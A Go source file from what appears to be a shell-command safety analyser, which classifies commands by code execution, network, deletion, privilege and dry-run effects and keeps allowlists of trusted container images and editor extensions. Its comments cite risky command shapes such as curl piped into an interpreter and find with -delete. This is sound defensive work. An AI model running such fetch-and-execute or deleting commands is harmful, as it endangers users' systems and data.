	if first == OperandScript && len(positionals) == 0 && !r.codeGiven && !r.stopped {
		if lang := specLang(cur); lang != "" && (c.StdinFed || hasInputRedirect(c)) {
			// An interpreter with neither a script nor inline code reads its
			// code from stdin (python3 <<EOF, curl … | ruby).
			a.stdinCode(lang)
		}
	}
	if first == OperandScript && len(positionals) > 0 && !posDyn[0] {
		// A script the table knows as a project's own task runner
		// (python manage.py test): read its arguments against its entry.
		if s2 := Lookup(path.Base(positionals[0])); s2 != nil && s2.Code == "project" {
			sub := *c
			sub.Name, sub.Program = path.Base(positionals[0]), positionals[0]
			sub.Args, sub.DynamicArgs = positionals[1:], posDyn[1:]
			r.Program += " " + positionals[0]
			inner := analysis{c: &sub, env: a.env, r: r}
			inner.walk(s2)
			return
		}
	}
	a.operands(operands, first, positionals, posDyn)
}

func (a *analysis) name(cur, spec *Spec) string {
	if cur == spec {
		return spec.Names[0]
	}
	return spec.Names[0] + " " + a.r.Subcommand
}

func findSub(s *Spec, name string) *Spec {
	for _, sub := range s.Subcommands {
		for _, n := range sub.Names {
			if n == name {
				return sub
			}
		}
	}
	// npx create-vite@latest, pnpm dlx @biomejs/biome@1.9: a package named
	// with its version is the package.
	if i := strings.LastIndexByte(name, '@'); i > 0 && !strings.ContainsAny(name[i:], "/:") {
		return findSub(s, name[:i])
	}
	return nil
}

// specEffects records what a program or subcommand does by itself.
func (a *analysis) specEffects(s *Spec) {
	r := a.r
	switch s.Code {
	case "":
	case "project":
		r.Code = append(r.Code, CodeEffect{Kind: "project", What: "the workspace's own build, test or task definitions"})
		if dir := a.projectDir(); dir != "" {
			// cd /tmp/gc && go run ., go run /tmp/x/main.go: the code of a
			// folder that is not the workspace (one this line or an earlier
			// one may have just written), not the project's own.
			r.unknown("runs the build, test or task definitions of %s, outside the workspace", dir)
		}
	default:
		r.Code = append(r.Code, CodeEffect{Kind: s.Code})
	}
	if s.Network != "" {
		r.Network = append(r.Network, NetEffect{Dest: "its configured remote", Sends: map[string]string{"send": "workspace"}[s.Network]})
	}
	// A followed remote command decides by itself, unless local input feeds
	// it (ssh host 'bash -s' < script.sh runs that script there).
	if s.Mutates != "" && !(s.MutatesOnBareSession && a.c.CodeSplit && !a.c.StdinFed && !hasInputRedirect(a.c)) && !a.addsFetchRemote() {
		r.Mutates = s.Mutates
	}
	if s.Privileged {
		r.Privileged = true
	}
	if s.Recursive {
		r.recursive = true
	}
}

// option matches one option word; it returns how many following arguments
// its value consumed.
func (a *analysis) option(s *Spec, arg string, args []string, dyn []bool, i int, operands, first *string) (int, bool) {
	// Exact spelling, or --name=value / -name=value.
	name, val, hasVal := strings.Cut(arg, "=")
	if o := findOption(s, arg); o != nil && o.UntilEnd {
		a.applyOption(o, operands, first)
		for k := i + 1; k < len(args); k++ {
			if args[k] == ";" || args[k] == "+" || args[k] == `\;` {
				return k - i, true
			}
		}
		return len(args) - 1 - i, true
	}
	if o := findOption(s, "-i"); o != nil && o.Operands == OperandWrite && o.Value == "" && len(arg) > 2 && strings.HasPrefix(arg, "-i") &&
		(arg[2] == '.' || arg[2] == '~' || arg[2] == '_' || arg[2] == '-' && len(arg) > 3 && arg[3] != '-') && !strings.ContainsAny(arg[2:], "/ $`") {
		// sed -i.bak, perl -i.orig: in place, keeping a backup with that
		// suffix.
		a.applyOption(o, operands, first)
		return 0, true
	}
	if o := findOption(s, name); o != nil {
		if o.Value == "" {
			a.applyOption(o, operands, first)
			if hasVal {
				a.flagValue(o, val, false)
			}
			if o.DryRun && strings.HasPrefix(name, "--no-") {
				a.r.DryRun = false // --no-dry-run: the last spelling wins
			}
			return 0, true
		}
		if hasVal {
			// --header="X: $TOKEN": the value is as dynamic as the word.
			vdyn := i < len(dyn) && dyn[i]
			a.value(o.Value, val, vdyn)
			a.applyOption(o, operands, first)
			a.flagValue(o, val, vdyn)
			a.nameFilter(name, val)
			return 0, true
		}
		if i+1 < len(args) {
			a.value(o.Value, args[i+1], i+1 < len(dyn) && dyn[i+1])
			a.applyOption(o, operands, first)
			a.flagValue(o, args[i+1], i+1 < len(dyn) && dyn[i+1])
			a.nameFilter(name, args[i+1])
			return 1, true
		}
		a.r.unknown("option %s without its value", arg)
		return 0, true
	}
	if strings.HasPrefix(arg, "--") || len(arg) < 2 {
		return 0, false
	}
	// A cluster of short options: -rf, -n5, -oFILE.
	for k := 1; k < len(arg); k++ {
		o := findOption(s, "-"+arg[k:k+1])
		if o == nil {
			return 0, false
		}
		a.applyOption(o, operands, first)
		if o.Value != "" {
			if rest := arg[k+1:]; rest != "" {
				a.value(o.Value, rest, false)
				return 0, true
			}
			if i+1 < len(args) {
				a.value(o.Value, args[i+1], i+1 < len(dyn) && dyn[i+1])
				return 1, true
			}
			a.r.unknown("option -%s without its value", arg[k:k+1])
			return 0, true
		}
	}
	return 0, true
}

// flagValue handles --flag=false style values of flags: a dry-run option set
// to a false value does not count.
func (a *analysis) flagValue(o *Option, val string, dyn bool) {
	if o.DryRun && dyn {
		a.r.DryRun = false
		a.r.Concerns = append(a.r.Concerns, "dry run chosen at run time: "+o.Names[0]+"="+val)
		return
	}
	if o.DryRun {
		switch strings.ToLower(val) {
		case "false", "0", "no", "off", "none", "never":
			a.r.DryRun = false
			a.r.Concerns = append(a.r.Concerns, "dry run turned off: "+o.Names[0]+"="+val)
		}
	}
}

func findOption(s *Spec, name string) *Option {
	for i := range s.Options {
		for _, n := range s.Options[i].Names {
			if n == name {
				return &s.Options[i]
			}
		}
	}
	return nil
}

func (a *analysis) applyOption(o *Option, operands, first *string) {
	if o.Operands != "" {
		if o.Operands == OperandDelete && *operands != OperandDelete && !a.r.filtered {
			// find evaluates its expression in order: a -delete before any
			// test deletes everything it walks (find . -delete -name '*.tmp').
			a.r.deleteFirst = true
		}
		*operands = o.Operands
	}
	if o.NoFirst {
		*first = ""
	}
	if o.Recursive {
		a.r.recursive = true
	}
	if o.DryRun {
		a.r.DryRun = true
	}
	if o.Deletes {
		a.r.deletes = true
	}
	if o.Filter {
		a.r.filtered = true
	}
	if o.Stop {
		a.r.stopped = true
	}
	if o.Concern != "" && !a.goPrivateOnly() {
		a.r.Concerns = append(a.r.Concerns, o.Concern)
	}
}

// printsHistory reports git log with patches (-p, --patch, -G, -S) or git
// show over more than one commit's worth: the diffs of the history.
func printsHistory(c *shell.Command) bool {
	if c.Name != "git" {
		return false
	}
	sub := ""
	patch := false
	for _, a := range c.Args {
		if sub == "" && !strings.HasPrefix(a, "-") {
			sub = a
			continue
		}
		if a == "-p" || a == "-u" || a == "--patch" || strings.HasPrefix(a, "-G") || strings.HasPrefix(a, "-S") || a == "--all" && sub == "grep" {
			patch = true
		}
	}
	return (sub == "log" || sub == "whatchanged") && patch
}

// GitInlineAlias returns git -c alias.NAME='SUBCOMMAND ARGS' NAME … as the
// git command the alias stands for (git log --graph … for lg), its Text
// rebuilt; an alias that runs a shell (!…) is left to the git rules. c
// itself when there is none.
func GitInlineAlias(c *shell.Command) *shell.Command {
	if c.Name != "git" || len(c.Args) < 3 {
		return c
	}
	aliases := map[string]string{}
	i := 0
	for i < len(c.Args) {
		a := c.Args[i]
		if (a == "-c") && i+1 < len(c.Args) {
			if k, v, ok := strings.Cut(c.Args[i+1], "="); ok && strings.HasPrefix(strings.ToLower(k), "alias.") &&
				!strings.HasPrefix(strings.TrimSpace(v), "!") && (i+1 >= len(c.DynamicArgs) || !c.DynamicArgs[i+1]) {
				aliases[k[len("alias."):]] = v
			}
			i += 2
			continue
		}
		if strings.HasPrefix(a, "-") {
			if a == "-C" || a == "--git-dir" || a == "--work-tree" || a == "--namespace" {
				i++
			}
			i++
			continue
		}
		break
	}
	if i >= len(c.Args) {
		return c
	}
	v, ok := aliases[c.Args[i]]
	if !ok || strings.TrimSpace(v) == "" || strings.ContainsAny(v, "$`;|&<>") {
		return c
	}
	cc := *c
	words := strings.Fields(v)
	cc.Args = append(append(append([]string{}, c.Args[:i]...), words...), c.Args[i+1:]...)
	cc.DynamicArgs = make([]bool, len(cc.Args))
	for j := range cc.Args {
		switch {
		case j < i:
			cc.DynamicArgs[j] = j < len(c.DynamicArgs) && c.DynamicArgs[j]
		case j >= i+len(words):
			k := j - len(words) + 1
			cc.DynamicArgs[j] = k < len(c.DynamicArgs) && c.DynamicArgs[k]
		}
	}
	cc.Text = shell.CommandText(cc.Name, false, cc.Args, cc.DynamicArgs)
	return &cc
}

// makeFileFromStdin returns make -f /dev/stdin (or -f -) with the known
// text on its stdin (a heredoc, a here-string, echo … |) as --eval of that
// text: the Makefile is right there, its recipes are read.
func makeFileFromStdin(c *shell.Command) *shell.Command {
	if (c.Name != "make" && c.Name != "gmake") || strings.TrimSpace(c.Stdin) == "" || len(c.Stdin) > 16<<10 {
		return c
	}
	for i, a := range c.Args {
		if (a == "-f" || a == "--file" || a == "--makefile") && i+1 < len(c.Args) && (c.Args[i+1] == "/dev/stdin" || c.Args[i+1] == "-") {
			cc := *c
			cc.Args = append(append(append([]string{}, c.Args[:i]...), "--eval", c.Stdin), c.Args[i+2:]...)
			cc.DynamicArgs = make([]bool, len(cc.Args))
			return &cc
		}
	}
	return c
}

// vimExSilent returns c without the -s of vim's Ex mode (vim -E -s, -es):
// there it means silent, not a file of keystrokes to read.
func vimExSilent(c *shell.Command) *shell.Command {
	switch c.Name {
	case "vim", "vi", "nvim", "gvim", "mvim", "view":
	default:
		return c
	}
	ex := false
	for _, a := range c.Args {
		if a == "-e" || a == "-E" || a == "-es" || a == "-Es" {
			ex = true
		}
	}
	if !ex || !slices.Contains(c.Args, "-s") {
		return c
	}
	cc := *c
	cc.Args, cc.DynamicArgs = nil, nil
	for i, a := range c.Args {
		if a == "-s" {
			continue
		}
		cc.Args = append(cc.Args, a)
		if i < len(c.DynamicArgs) {
			cc.DynamicArgs = append(cc.DynamicArgs, c.DynamicArgs[i])
		}
	}
	return &cc
}

// setsSpecialMode reports a mode argument that sets the setuid, setgid or
// sticky bit (install -m 4755, chmod u+s, chmod 2755).
func setsSpecialMode(c *shell.Command) bool {
	for _, a := range c.Args {
		a = strings.TrimPrefix(strings.TrimPrefix(a, "--mode="), "-m")
		if a == "" || strings.HasPrefix(a, "-") {
			continue
		}
		if len(a) == 4 && strings.Trim(a, "01234567") == "" && a[0] != '0' {
			return true
		}
		if strings.ContainsAny(a, "=+") && strings.Trim(a, "ugoa+-=rwxXst,") == "" && strings.ContainsAny(a, "st") {
			return true
		}
	}
	return false
}

// searchPrintsNoLines reports a grep that prints a count, file names or
// nothing instead of the matching lines (-c, -q, -l, -L and long forms).
func searchPrintsNoLines(c *shell.Command) bool {
	switch c.Name {
	case "grep", "egrep", "fgrep", "rg":
	default:
		return false
	}
	for _, a := range c.Args {
		switch {
		case a == "--":
			return false
		case a == "--count" || a == "--quiet" || a == "--silent" || a == "--files-with-matches" || a == "--files-without-match":
			return true
		case len(a) > 1 && a[0] == '-' && a[1] != '-' && strings.ContainsAny(a[1:], "cqlL") && !strings.ContainsAny(a[1:], "efmABCd"):
			return true
		}
	}
	return false
}

// operands records the positional arguments' effects.
func (a *analysis) operands(kind, first string, pos []string, dyn []bool) {
	if len(pos) == 0 {
		return
	}
	if first != "" {
		a.r.firstArg = pos[0]
		a.value(first, pos[0], dyn[0])
		pos, dyn = pos[1:], dyn[1:]
	}
	switch kind {
	case OperandDest, OperandMove:
		if len(pos) == 0 {
			return
		}
		last := len(pos) - 1
		for i := 0; i < last; i++ {
			if kind == OperandMove {
				a.value(OperandDelete, pos[i], dyn[i])
			} else {
				a.value(OperandRead, pos[i], dyn[i])
			}
		}
		if last == 0 && kind == OperandDest {
			// cp FILE with no destination: an error, or (ln -s) into the cwd.
			return
		}
		if kind == OperandDest && last == 1 && pos[0] == "/dev/null" && !dyn[1] {
			// cp /dev/null FILE empties FILE: its content is gone, as if deleted.
			a.file(OpDelete, pos[last], false)
			return
		}
		a.value(OperandWrite, pos[last], dyn[last])
		return
	}
	for i, p := range pos {
		a.value(kind, p, dyn[i])
	}
}

// listedOption reports an option the spec lists by name (--name=value by
// its name), for programs where every other option is harmless.
func listedOption(spec *Spec, arg string) bool {
	name := arg
	if i := strings.IndexByte(arg, '='); i > 0 && strings.HasPrefix(arg, "--") {
		name = arg[:i]
	}
	return findOption(spec, name) != nil
}

// dynTail returns dyn from i on (dyn may be shorter than the arguments).
func dynTail(dyn []bool, i int) []bool {
	if i >= len(dyn) {
		return nil
	}
	return dyn[i:]
}

// addsFetchRemote reports git remote add NAME URL for a new name (not
// origin) without --mirror: a remote to fetch from (upstream), which sends
// nothing by itself. A push to it later on the same line is judged by the
// rule pass (see eval_shell's addedRemotes).
func (a *analysis) addsFetchRemote() bool {
	args := a.c.Args
	if a.c.Name != "git" || len(args) < 4 || args[0] != "remote" || args[1] != "add" {
		return false
	}
	for _, x := range args[2:] {
		if strings.HasPrefix(x, "--mirror") {
			return false
		}
	}
	return !slices.Contains(args[2:], "origin")
}

// goPrivateOnly reports go env -w that sets GOPRIVATE alone (which modules
// are private: fetched directly, not through the proxy or checksum
// database) — routine set-up, unlike GOPROXY or GOFLAGS.
func (a *analysis) goPrivateOnly() bool {
	args := a.c.Args
	if a.c.Name != "go" || len(args) < 3 || args[0] != "env" || args[1] != "-w" {
		return false
	}
	for _, x := range args[2:] {
		if !strings.HasPrefix(x, "GOPRIVATE=") || strings.ContainsAny(x, "$`") {
			return false
		}
	}
	return true
}

// markReplaced marks the targets cp, mv, install and tee (without -a)
// write as replaced: a file already there is overwritten whole (unless
// -n/--no-clobber or --update=none keeps it).
func (a *analysis) markReplaced() {
	switch a.c.Name {
	case "cp", "gcp", "mv", "gmv", "install", "ditto", "tee":
	default:
		return
	}
	for _, x := range a.c.Args {
		switch {
		case x == "--":
			break
		case x == "--no-clobber" || x == "--update=none" || x == "--update=none-fail" || x == "--append" || strings.HasPrefix(x, "--backup"):
			return // kept, or kept as FILE~
		case strings.HasPrefix(x, "-") && !strings.HasPrefix(x, "--") &&
			(strings.ContainsAny(x, "nb") && a.c.Name != "tee" || strings.ContainsRune(x, 'a') && a.c.Name == "tee"):
			return
		}
	}
	for i := range a.r.Files {
		if f := &a.r.Files[i]; f.Op == OpWrite && !a.env.IfMissing[f.Path] {
			f.replaces = true
		}
	}
}

// zipMoveConcern is zip -m's concern (see the table).
const zipMoveConcern = "deletes the files it puts in the archive"

// zipMovesInside drops zip -m's concern when the archive and every file
// moved into it are inside the workspace (zip -rm logs-old.zip logs/old/):
// the files are still there, in the archive.
func (a *analysis) zipMovesInside() {
	if a.c.Name != "zip" || !slices.Contains(a.r.Concerns, zipMoveConcern) {
		return
	}
	for _, f := range a.r.Files {
		if f.Dynamic || !has(f.Classes, "inside") || has(f.Classes, ClassRoot, ClassSecret, ClassVCS, ClassVCSOther) {
			return
		}
	}
	a.r.Concerns = slices.DeleteFunc(a.r.Concerns, func(c string) bool { return c == zipMoveConcern })
}

// testDatabaseRe matches the name of a test or development database.
var testDatabaseRe = regexp.MustCompile(`(?i)^(?:test_[\w-]+|[\w-]+[_-](?:test|tests|testing|ci|e2e|dev|development|local))$`)

// testDatabaseOperands reports a command whose every operand names a test
// or development database on this machine (no remote -h host).
func testDatabaseOperands(c *shell.Command) bool {
	n := 0
	for i := 0; i < len(c.Args); i++ {
		a := c.Args[i]
		if i < len(c.DynamicArgs) && c.DynamicArgs[i] {
			return false
		}
		switch {
		case a == "-h" || a == "--host":
			if i+1 >= len(c.Args) || !LoopbackHost("tcp://"+c.Args[i+1]) {
				return false
			}
			i++
		case a == "-p" || a == "--port" || a == "-U" || a == "--username" || a == "--maintenance-db":
			i++
		case strings.HasPrefix(a, "-"):
		default:
			if !testDatabaseRe.MatchString(a) {
				return false
			}
			n++
		}
	}
	return n > 0
}

// extensionConcern is the editors' --install-extension concern (see the table).
const extensionConcern = "installs an editor extension (code of its own)"

// extensionPublishers are marketplace publishers of widely used language,
// lint and format extensions (an extension id is publisher.name).
var extensionPublishers = map[string]bool{"ms-python": true, "ms-vscode": true, "ms-toolsai": true, "ms-azuretools": true,
	"ms-vscode-remote": true, "ms-kubernetes-tools": true, "ms-dotnettools": true, "vscjava": true, "dbaeumer": true,
	"esbenp": true, "rust-lang": true, "golang": true, "redhat": true, "github": true, "eamodio": true, "bradlc": true,
	"prisma": true, "hashicorp": true, "svelte": true, "vue": true, "astro-build": true, "denoland": true, "biomejs": true,
	"charliermarsh": true, "tamasfe": true, "streetsidesoftware": true, "editorconfig": true, "davidanson": true,
	"stylelint": true, "graphql": true, "ms-playwright": true, "vitest": true, "orta": true, "unifiedjs": true,
	"llvm-vs-code-extensions": true, "ziglang": true, "elixir-lsp": true, "shopify": true, "rubocop": true}

// wellKnownExtensions reports an editor command whose every
// --install-extension value is a marketplace id of a well-known publisher
// (not a .vsix file, not a path).
func wellKnownExtensions(c *shell.Command) bool {
	found := false
	for i := 0; i < len(c.Args); i++ {
		if c.Args[i] != "--install-extension" {
			continue
		}
		if i+1 >= len(c.Args) || i+1 < len(c.DynamicArgs) && c.DynamicArgs[i+1] {
			return false
		}
		id := strings.ToLower(c.Args[i+1])
		pub, name, ok := strings.Cut(id, ".")
		if v, _, _ := strings.Cut(name, "@"); !ok || v == "" || strings.ContainsAny(id, "/\\~$") || strings.HasSuffix(id, ".vsix") || !extensionPublishers[pub] {
			return false
		}
		found = true
		i++
	}
	return found
}

// testEnvVars are variables that choose a framework's environment.
var testEnvVars = []string{"RAILS_ENV", "RACK_ENV", "NODE_ENV", "APP_ENV", "MIX_ENV", "FLASK_ENV", "ENVIRONMENT", "ENV"}

// testDatabaseTarget reports a database command aimed at a test database on
// this machine: the environment set to test, or a database named for tests
// (shop_test, test_app), and no host other than this machine.
func testDatabaseTarget(c *shell.Command) bool {
	test := false
	for _, k := range testEnvVars {
		if v, ok := c.Assigns[k]; ok {
			if v != "test" && v != "testing" {
				return false
			}
			test = true
		}
	}
	for i := 0; i < len(c.Args); i++ {
		a := c.Args[i]
		if i < len(c.DynamicArgs) && c.DynamicArgs[i] {
			return false
		}
		switch {
		case a == "-h" || a == "--host":
			if i+1 >= len(c.Args) || !LoopbackHost("tcp://"+c.Args[i+1]) {
				return false
			}
			i++
		case strings.HasPrefix(a, "--host="):
			if !LoopbackHost("tcp://" + strings.TrimPrefix(a, "--host=")) {
				return false
			}
		case strings.Contains(a, "://"):
			if !LoopbackHost(a) {
				return false
			}
			if db := a[strings.LastIndexByte(a, '/')+1:]; testDatabaseRe.MatchString(strings.SplitN(db, "?", 2)[0]) {
				test = true
			}
		case strings.HasPrefix(a, "--settings=") && (strings.HasSuffix(a, ".test") || strings.HasSuffix(a, "_test") || strings.HasSuffix(a, ".testing")):
			test = true
		case strings.HasPrefix(a, "-d") && len(a) > 2 && testDatabaseRe.MatchString(a[2:]):
			test = true
		case testDatabaseRe.MatchString(a) && !strings.Contains(a, "/"):
			test = true
		}
	}
	return test
}

// dockerValueFlags are docker/podman run options that take a value.
var dockerValueFlags = map[string]bool{"-e": true, "--env": true, "-p": true, "--publish": true, "-v": true, "--volume": true,
	"--name": true, "--network": true, "--net": true, "-w": true, "--workdir": true, "--entrypoint": true, "--env-file": true,
	"-u": true, "--user": true, "--mount": true, "--restart": true, "--platform": true, "-l": true, "--label": true,
	"--cpus": true, "-m": true, "--memory": true, "--add-host": true, "--dns": true, "-h": true, "--hostname": true,
	"--gpus": true, "--pull": true, "--shm-size": true, "--ulimit": true, "--device": true, "--cap-add": true,
	"--cap-drop": true, "--security-opt": true, "--tmpfs": true, "--log-driver": true, "--log-opt": true,
	"--volumes-from": true, "--link": true, "--expose": true, "--health-cmd": true, "--ipc": true, "--pid": true,
	"--userns": true, "--stop-signal": true, "--cidfile": true, "--label-file": true, "--memory-swap": true}

// containerImage returns the image of docker/podman/nerdctl run or create,
// or "" (another subcommand, or an image known only at run time).
func containerImage(c *shell.Command) string {
	switch c.Name {
	case "docker", "podman", "nerdctl":
	default:
		return ""
	}
	i := 0
	for i < len(c.Args) && strings.HasPrefix(c.Args[i], "-") {
		i++ // global options (rare with a value before the subcommand)
	}
	if i+1 < len(c.Args) && c.Args[i] == "container" {
		i++
	}
	if i >= len(c.Args) || c.Args[i] != "run" && c.Args[i] != "create" {
		return ""
	}
	for j := i + 1; j < len(c.Args); j++ {
		a := c.Args[j]
		if j < len(c.DynamicArgs) && c.DynamicArgs[j] && !strings.HasPrefix(a, "-") {
			return ""
		}
		switch {
		case a == "--":
			continue
		case dockerValueFlags[a]:
			j++
		case strings.HasPrefix(a, "-"):
		default:
			return a
		}
	}
	return ""
}

// trustedPublishers are registries and organizations whose images are
// official or from the tool's own maker.
var trustedPublishers = []string{"docker.io/library/", "mcr.microsoft.com/", "public.ecr.aws/aws-", "public.ecr.aws/docker/library/",
	"gcr.io/distroless/", "gcr.io/google", "ghcr.io/github/", "hashicorp/", "bitnami/", "localstack/", "grafana/", "prom/",
	"curlimages/", "amazon/", "redhat/", "registry.access.redhat.com/", "quay.io/prometheus/", "quay.io/coreos/", "cimg/",
	"mysql/", "mongodb/", "confluentinc/", "minio/", "testcontainers/", "selenium/", "mcr.microsoft.com", "gitlab/",
	"jenkins/", "sonarsource/", "opensearchproject/", "elastic/", "docker.elastic.co/", "ghcr.io/astral-sh/", "ghcr.io/oras-project/",
	"node:", "python:", "golang:", "rust:", "ruby:", "openjdk:", "eclipse-temurin:", "alpine:", "ubuntu:", "debian:",
	"postgres:", "redis:", "mysql:", "mariadb:", "mongo:", "nginx:", "httpd:", "rabbitmq:", "memcached:", "busybox:"}

// trustedImage reports an official library image (no registry or
// organization in its name: postgres:16, redis, shop-api:dev built here) or
// one of a trusted publisher.
func trustedImage(img string) bool {
	if strings.ContainsAny(img, "$`") {
		return false
	}
	if !strings.Contains(img, "/") {
		return true // a library image, or one the project built and tagged
	}
	for _, p := range trustedPublishers {
		if strings.HasPrefix(img, p) {
			return true
		}
	}
	return false
}
